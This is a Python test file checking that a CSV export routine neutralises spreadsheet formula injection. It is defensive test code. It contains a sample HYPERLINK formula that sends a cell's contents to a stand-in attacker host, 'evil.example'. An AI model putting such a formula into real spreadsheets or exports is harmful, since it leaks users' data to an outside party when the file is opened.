"""CSV: what other people named stays text in every spreadsheet."""

import csv
import re

import pytest

from audit.csv_lines import csv_line

FORMULA = 'HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("before", ["", "a;", "a\t", "a\n", ";", "=;"])
def test_no_cell_begins_like_a_formula(sign: str, before: str) -> None:
    """Whichever separators the spreadsheet goes by: Excel by the system's language, LibreOffice by several at once."""
    line = csv_line(["first", f"{before}{sign}{FORMULA}", "last"])
    for separators in (",", ";", "\t", ",;\t"):
        for cell in re.split(f"[{separators}\r\n]", line):
            assert not re.match(r"\"?[=+\-@＝＋－＠]", cell), (cell, line)


@pytest.mark.parametrize("cell", ["", "-", "Mei Example", "a - b", "1;2", "x=1", 'said "=1"', "till-3", "2026-12-01"])
def test_everything_else_is_as_it_was(cell: str) -> None:
    """Read again by any reader of CSV."""
    assert next(csv.reader([csv_line([cell, "x"])])) == [cell, "x"]
